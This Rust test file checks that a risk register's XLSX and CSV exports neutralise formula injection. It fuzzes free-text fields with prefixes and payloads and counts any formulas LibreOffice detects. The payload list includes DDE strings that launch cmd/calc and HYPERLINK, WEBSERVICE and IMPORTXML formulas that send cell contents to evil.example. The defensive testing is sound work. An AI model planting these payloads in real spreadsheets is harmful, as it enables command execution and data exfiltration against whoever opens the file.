//! T37: what people write that looks like a formula, a link or a command is written into records, taken out as a
//! workbook and as delimited text, and read by a reader that shares nothing with the product: no cell is a formula, and
//! every text arrives as itself. Where LibreOffice is there, it says how many formulas it sees.

mod sheet;

use std::collections::BTreeMap;
use std::process::Command;

use serde_json::{Value, json};
use storage::testing::left_out;

use crate::chance::{Chance, times};
use crate::house::House;
use crate::house::call::Call;
use crate::house::model::{Model, of_each};
use crate::house::register::{ESTATE, api};
use crate::planted::turns_red;
use sheet::Cell;

/// The fields of a risk that people write freely.
const FIELDS: [&str; 5] = ["title", "cause", "event", "consequence", "response_plan"];

const STARTS: [&str; 22] = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "'=",
    "''-",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u{a0}=",
    "\"=",
    ";=",
    ",=",
    "|=",
    "\u{200d}=",
    "%3D",
    "_x003D_",
    "\u{fffe}=",
    "",
];
const ENDS: [&str; 20] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example/?\"&A1,\"look\")",
    "WEBSERVICE(\"http://evil.example\")",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(A1:A9)*1E3",
    "44 20 7946 0000",
    "5",
    "2.5E+300",
    "0x1F",
    "a\nb\n=c",
    "\"\",\"=1\"",
    "<f>1+1</f>",
    "]]><c t=\"str\"><f>1</f></c>",
    "&#61;1+1&amp;",
    "_x005F_x0041_ _x000D_",
    "żółw \u{1F422} \u{FFFF} \u{10FFFF}",
    "TRUE",
    "2026-01-01",
];

fn text(chance: &mut Chance) -> String {
    let mut text = chance.one(&STARTS).to_owned() + chance.one(&ENDS);
    while chance.percent(30) {
        text.push_str(chance.one(&STARTS));
        text.push_str(chance.one(&ENDS));
    }
    if text.trim().is_empty() { "a".to_owned() } else { text }
}

/// Every record by its reference, as the API tells it.
fn told(model: &Model, house: &House) -> BTreeMap<String, Value> {
    let (mut all, mut after) = (BTreeMap::new(), String::new());
    loop {
        let path = format!("/relationships/{ESTATE}/risks?limit=100{after}");
        let page = api(house, &model.cast.owner, "GET", &path, &Value::Null).done().json();
        for item in page["items"].as_array().expect("items") {
            all.insert(item["reference"].as_str().expect("a reference").to_owned(), item.clone());
        }
        match page["next"].as_str() {
            Some(next) => after = format!("&after={next}"),
            None => return all,
        }
    }
}

/// Holds the rows against what the API tells; how many cells there were.
fn compare(form: &str, rows: &[Vec<Cell>], told: &BTreeMap<String, Value>) -> usize {
    let probe =
        rows.iter().find(|row| row.iter().any(|cell| cell.words() == "probe of title")).expect("T37: the probe");
    let places = FIELDS.map(|field| {
        let wanted = format!("probe of {field}");
        probe.iter().position(|cell| cell.words() == wanted).unwrap_or_else(|| panic!("T37 {form}: where is {field}?"))
    });
    assert_eq!(rows.len() - 1, told.len(), "T37 {form}: as many rows as records");
    let mut cells = 0;
    for row in &rows[1..] {
        let record = told.get(row[0].words()).unwrap_or_else(|| panic!("T37 {form}: {:?} is no record", row[0]));
        for (field, place) in FIELDS.into_iter().zip(places) {
            let wanted = record[field].as_str().unwrap_or_default();
            let cell = row.get(place).unwrap_or(&Cell::Nothing);
            assert_eq!(cell.words(), wanted, "T37 {form}: {field} of {:?}", row[0]);
            assert!(form == "csv" || !matches!(cell, Cell::Number(_)), "T37 {form}: {wanted:?} became a number");
            cells += usize::from(!wanted.is_empty());
        }
    }
    cells
}

/// How many formulas LibreOffice sees, where it is there.
fn formulas(form: &str, bytes: &[u8]) -> Option<usize> {
    let folder = std::env::temp_dir().join(format!("comity-exported-{}-{form}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("a folder");
    let file = folder.join(format!("risks.{form}"));
    std::fs::write(&file, bytes).expect("a file");
    let office = Command::new("soffice")
        .args(["--headless", "--convert-to", "fods", "--outdir"])
        .arg(&folder)
        .arg(&file)
        .env("HOME", &folder)
        .output();
    let seen = match office {
        Err(_) => {
            left_out("T37 by LibreOffice", "soffice", "soffice is not here");
            None
        }
        Ok(done) => {
            assert!(done.status.success(), "T37: LibreOffice cannot open the {form}");
            let flat = std::fs::read_to_string(folder.join("risks.fods")).expect("T37: LibreOffice wrote it");
            Some(flat.matches("table:formula=").count())
        }
    };
    std::fs::remove_dir_all(&folder).expect("a folder goes");
    seen
}

fn export(model: &Model, cells: usize) {
    let (house, owner) = (model.copy(), &model.cast.owner);
    let mut chance = Chance::of_test("T37", 37);
    let probe: serde_json::Map<_, _> =
        FIELDS.map(|field| (field.to_owned(), format!("probe of {field}").into())).into_iter().collect();
    let raise = |mut risk: Value| {
        risk["seen_by"] = "both".into();
        api(&house, owner, "POST", &format!("/relationships/{ESTATE}/risks"), &risk).done();
    };
    raise(Value::Object(probe));
    for _ in 0..cells.div_ceil(FIELDS.len()) {
        let fields: serde_json::Map<_, _> = FIELDS
            .map(|field| {
                let text: String = text(&mut chance).chars().take(190).collect();
                (field.to_owned(), json!(text))
            })
            .into_iter()
            .collect();
        raise(Value::Object(fields));
    }
    let told = told(model, &house);
    for form in ["xlsx", "csv"] {
        let path = format!("/api/v1/relationships/{ESTATE}/risks/export?format={form}");
        let file = house.hear(Call::get(path).by(owner)).done().body;
        let rows = if form == "xlsx" { sheet::workbook(&file) } else { sheet::delimited(&file) };
        let compared = compare(form, &rows, &told);
        let office = formulas(form, &file);
        assert!(office.is_none_or(|seen| seen == 0), "T37 {form}: LibreOffice sees {office:?} formulas");
        println!("T37 {form}: {compared} cells, 0 formulas; by LibreOffice: {office:?}");
    }
}

#[test]
fn no_cell_is_a_formula_and_every_text_arrives() {
    let cells = times("COMITY_CELLS", 500);
    of_each(|model| export(model, if model.is_on_server() { cells.div_ceil(5) } else { cells }));
}

#[test]
fn a_planted_fault_turns_the_exports_red() {
    const TEST: &str = "formulas::no_cell_is_a_formula_and_every_text_arrives";
    turns_red(TEST, kernel::Fault::FormulasRun, "T37: the sheet has a formula", &[("COMITY_CELLS", "50")]);
}
